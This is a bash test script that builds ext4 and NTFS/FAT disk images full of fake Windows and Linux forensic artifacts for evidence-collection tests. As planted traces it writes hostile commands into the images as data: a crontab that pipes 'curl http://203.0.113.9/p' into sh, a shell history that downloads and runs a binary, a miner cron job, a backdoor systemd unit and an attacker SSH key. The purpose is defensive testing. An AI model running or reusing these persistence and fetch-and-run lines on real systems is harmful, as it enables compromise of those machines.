#!/bin/bash
# tests/evidence/mkimages.sh OUTDIR - Windows-like and Linux-like test images for the
# evidence tests (collect, bundle, verify), built without any mount:
#   OUTDIR/linux.ext4   ext4 (mke2fs -d) with a real Linux layout: /etc/passwd, shadow,
#                       sudoers, crontabs, systemd units, /var/log/auth.log, a journal
#                       file, shell histories, SSH keys, nginx logs, plus hostile file
#                       names (newline, backslash, 0xff, control bytes, 250-byte name,
#                       CON, "..x", names with ':') under /home/*/ and /var/log/nginx/.
#   OUTDIR/windows.ntfs NTFS (mkntfs + ntfsedit) with registry hives, event logs,
#                       Prefetch, user hives (mixed case: ntuser.dat), PSReadLine history,
#                       LNK and jump lists, browser history, Recycle Bin $I files,
#                       scheduled tasks, startup folders; a harmless marker file that
#                       tests/evidence/marker.yar matches; a deleted Prefetch file
#                       (GONE.EXE-0000.pf) whose content TSK can still read.
#   (when ntfsedit is missing: OUTDIR/windows.fat, FAT32 via mtools, same tree)
# Env: NTFSEDIT (default build/tests/ntfsedit).
set -euo pipefail
OUT=$1
ROOT=$(cd "$(dirname "$(readlink -f "$0")")/../.." && pwd)
NTFSEDIT=${NTFSEDIT:-$ROOT/build/tests/ntfsedit}
mkdir -p "$OUT"
W=$(mktemp -d)
trap 'rm -rf "$W"' EXIT

# deterministic pseudo-random content: blob NAME SIZE > file
blob() { printf '%s\n' "$1"; head -c "$2" /dev/urandom; }

# ---------------------------------------------------------------- Linux (ext4)
L=$W/linux
mkdir -p "$L"/etc/{sudoers.d,cron.d,systemd/system/multi-user.target.wants,ssh} \
         "$L"/var/log/{journal/0123456789abcdef,nginx,apache2} "$L"/var/spool/cron/crontabs \
         "$L"/home/alice/.ssh "$L"/home/bob "$L"/root/.ssh "$L"/usr/bin "$L"/tmp
printf 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n' > "$L/etc/passwd"
printf 'root:x:0:\nalice:x:1000:\n' > "$L/etc/group"
printf 'root:$6$salt$hash:19000:0:99999:7:::\n' > "$L/etc/shadow"
printf 'root ALL=(ALL:ALL) ALL\n' > "$L/etc/sudoers"
printf 'alice ALL=(ALL) NOPASSWD: ALL\n' > "$L/etc/sudoers.d/alice"
printf '*/5 * * * * root /tmp/.x/miner\n' > "$L/etc/cron.d/evil"
printf 'SHELL=/bin/sh\n' > "$L/etc/crontab"
printf '* * * * * curl http://203.0.113.9/p | sh\n' > "$L/var/spool/cron/crontabs/alice"
printf '[Unit]\nDescription=backdoor\n[Service]\nExecStart=/tmp/.x/bd\n' > "$L/etc/systemd/system/backdoor.service"
ln -s ../backdoor.service "$L/etc/systemd/system/multi-user.target.wants/backdoor.service"
printf 'Port 22\n' > "$L/etc/ssh/sshd_config"
blob auth 3000 > "$L/var/log/auth.log"
blob auth1 2000 > "$L/var/log/auth.log.1"
blob syslog 5000 > "$L/var/log/syslog"
blob journal 1500000 > "$L/var/log/journal/0123456789abcdef/system.journal"
blob access 4000 > "$L/var/log/nginx/access.log"
blob error 1000 > "$L/var/log/nginx/error.log"
blob apache 1000 > "$L/var/log/apache2/access.log"
printf 'wget http://203.0.113.9/x\nchmod +x x\n./x\n' > "$L/home/alice/.bash_history"
printf 'ssh-ed25519 AAAA alice@laptop\n' > "$L/home/alice/.ssh/authorized_keys"
printf 'host1 ssh-ed25519 AAAA\n' > "$L/home/alice/.ssh/known_hosts"
printf 'ls\n' > "$L/home/bob/.zsh_history"
printf 'history -c\n' > "$L/root/.bash_history"
printf 'ssh-rsa AAAA attacker\n' > "$L/root/.ssh/authorized_keys"
printf 'not an artifact\n' > "$L/usr/bin/ls"
printf 'harmless test file KK-EVIDENCE-MARKER-7f3a\n' > "$L/tmp/dropper.sh"
# hostile names (each holds a shell history, so the linux-shell-history target takes it)
for n in $'new\nline' 'back\slash' $'\xff\xfe-not-utf8' $'ctl\x01\x1b[31m' 'CON' '..x' 'a:b' \
         "$(printf 'L%.0s' $(seq 1 250))" ' lead' 'trail.' '%41'; do
	mkdir -p "$L/home/$n"
	printf 'echo %s\n' "hostile" > "$L/home/$n/.bash_history"
done
printf 'x\n' > "$L/var/log/nginx/"$'..\x01evil.log'
mke2fs -q -F -t ext4 -L kklinux -d "$L" "$OUT/linux.ext4" 24M

# ---------------------------------------------------------------- Windows tree
D=$W/win
mkdir -p "$D"
wfile() { # wfile PATH SIZE : content in $D/flat/N, listed in $W/list
	local n; n=$(wc -l < "$W/list" 2>/dev/null || echo 0)
	mkdir -p "$D/flat"
	blob "$1" "$2" > "$D/flat/$n"
	printf '%s\t%s\n' "$1" "$D/flat/$n" >> "$W/list"
}
: > "$W/list"
wfile /Windows/System32/config/SYSTEM 70000
wfile /Windows/System32/config/SOFTWARE 2600000
wfile /Windows/System32/config/SAM 20000
wfile /Windows/System32/config/SECURITY 20000
wfile /Windows/System32/config/DEFAULT 20000
wfile /Windows/System32/config/SYSTEM.LOG1 4000
wfile /Windows/System32/cmd.exe 5000
wfile /Windows/AppCompat/Programs/Amcache.hve 30000
wfile /Windows/System32/winevt/Logs/Security.evtx 69632
wfile /Windows/System32/winevt/Logs/System.evtx 69632
wfile "/Windows/System32/winevt/Logs/Microsoft-Windows-TaskScheduler%4Operational.evtx" 8000
wfile /Windows/Prefetch/CMD.EXE-4A81B364.pf 3000
wfile /Windows/Prefetch/EVIL.EXE-12345678.pf 3000
wfile "/Windows/System32/Tasks/Microsoft/Windows/Defrag/ScheduledDefrag" 900
wfile "/Windows/System32/Tasks/Updater Task" 900
wfile "/ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/run.bat" 100
wfile /Users/alice/NTUSER.DAT 40000
wfile /Users/alice/AppData/Local/Microsoft/Windows/UsrClass.dat 20000
wfile /Users/Bob/ntuser.dat 30000
wfile /Users/Bob/AppData/Local/Microsoft/Windows/usrclass.DAT 10000
wfile "/Users/alice/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt" 500
wfile "/Users/alice/AppData/Roaming/Microsoft/Windows/Recent/report.docx.lnk" 800
wfile "/Users/alice/AppData/Roaming/Microsoft/Windows/Recent/AutomaticDestinations/5f7b5f1e01b83767.automaticDestinations-ms" 5000
wfile "/Users/alice/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/evil.lnk" 700
wfile "/Users/alice/AppData/Local/Google/Chrome/User Data/Default/History" 60000
wfile "/Users/alice/AppData/Local/Microsoft/Edge/User Data/Profile 1/History" 30000
wfile "/Users/Bob/AppData/Roaming/Mozilla/Firefox/Profiles/abcd.default/places.sqlite" 30000
wfile '/$Recycle.Bin/S-1-5-21-1004336348-1177238915-682003330-1001/$IAB12CD.docx' 80
wfile '/$Recycle.Bin/S-1-5-21-1004336348-1177238915-682003330-1001/$RAB12CD.docx' 3000
wfile /Users/alice/Documents/notes.txt 100
printf 'harmless test file KK-EVIDENCE-MARKER-7f3a\n' > "$D/flat/marker"
printf '%s\t%s\n' /Users/alice/Downloads/invoice.exe "$D/flat/marker" >> "$W/list"

if [ -x "$NTFSEDIT" ]; then
	rm -f "$OUT/windows.ntfs"
	truncate -s 24M "$OUT/windows.ntfs"
	mkntfs -q -F -f -L kkwin "$OUT/windows.ntfs" >/dev/null 2>&1
	blob gone 3000 > "$D/flat/gone"
	{ awk -F'\t' '{printf "put\t%s\t%s\n", $1, $2}' "$W/list"
	  printf 'put\t/Windows/Prefetch/GONE.EXE-0000.pf\t%s\nrm\t/Windows/Prefetch/GONE.EXE-0000.pf\n' "$D/flat/gone"
	} | "$NTFSEDIT" "$OUT/windows.ntfs" batch -
	rm -f "$OUT/windows.fat"
else
	rm -f "$OUT/windows.fat"
	mkfs.fat -C -F 32 -n KKWIN "$OUT/windows.fat" 40000 >/dev/null
	export MTOOLS_SKIP_CHECK=1
	while IFS=$'\t' read -r p f; do
		dir=${p%/*}
		acc=""
		IFS=/ read -ra parts <<< "${dir#/}"
		for c in "${parts[@]}"; do
			acc="$acc/$c"
			mmd -i "$OUT/windows.fat" "::$acc" 2>/dev/null || true
		done
		mcopy -i "$OUT/windows.fat" "$f" "::$p"
	done < "$W/list"
fi
cut -f1 "$W/list" > "$OUT/windows.list"
